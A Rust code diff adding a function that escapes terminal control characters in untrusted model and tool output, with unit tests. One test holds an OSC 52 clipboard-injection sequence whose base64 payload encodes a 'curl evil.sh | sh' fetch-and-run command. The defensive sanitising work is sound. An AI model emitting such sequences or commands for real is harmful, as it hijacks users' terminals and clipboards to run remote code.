@@ -18,6 +18,34 @@ pub enum OutputFormat {
     StreamJson,
 }
 
+/// `text` made safe to print on a terminal (text output): every control character but
+/// newline and tab is written out as an escape (`\x1b`, `\u{9b}`) instead of being sent.
+///
+/// The model's answer, tool output and file names the sandbox chose are untrusted. Sent
+/// raw, ESC and C1 sequences drive the user's terminal: OSC 52 writes their clipboard
+/// (`\x1b]52;c;...\x07`), CSI moves the cursor and rewrites what was shown, a title
+/// sequence can echo text back into some terminals' input, BEL rings. C0 controls (ESC,
+/// BEL, CR, backspace...), DEL and the C1 controls U+0080..U+009F (a lone U+009B is a CSI
+/// on some terminals) are all escaped. JSON output needs none of this: its encoder escapes
+/// control characters already, and its consumers are programs.
+pub fn for_terminal(text: &str) -> std::borrow::Cow<'_, str> {
+    let unsafe_char = |c: char| c.is_control() && c != '\n' && c != '\t';
+    if !text.chars().any(unsafe_char) {
+        return std::borrow::Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len() + 16);
+    for c in text.chars() {
+        if !unsafe_char(c) {
+            out.push(c);
+        } else if u32::from(c) < 0x80 {
+            out.push_str(&format!("\\x{:02x}", u32::from(c)));
+        } else {
+            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
+        }
+    }
+    std::borrow::Cow::Owned(out)
+}
+
 /// The first stream-json record.
 pub fn init_record(
     session_id: &str,
@@ -167,6 +195,31 @@ pub fn human(message: &Message) -> String {
         }
     }
     out
+}
+
+#[cfg(test)]
+mod terminal_tests {
+    use super::for_terminal;
+
+    #[test]
+    fn escape_sequences_are_shown_not_sent() {
+        let osc52 = "done\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";
+        assert_eq!(
+            for_terminal(osc52),
+            "done\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"
+        );
+        assert_eq!(for_terminal("a\u{1b}[2Jb\rc\u{8}"), "a\\x1b[2Jb\\x0dc\\x08");
+        assert_eq!(for_terminal("\u{9b}31m\u{7f}"), "\\u{9b}31m\\x7f");
+    }
+
+    #[test]
+    fn text_newlines_tabs_and_unicode_pass_unchanged() {
+        let plain = "Fixed it.\n\tall tests pass ✓ — ünïcode";
+        assert!(matches!(
+            for_terminal(plain),
+            std::borrow::Cow::Borrowed(s) if s == plain
+        ));
+    }
 }
 
 #[cfg(test)]
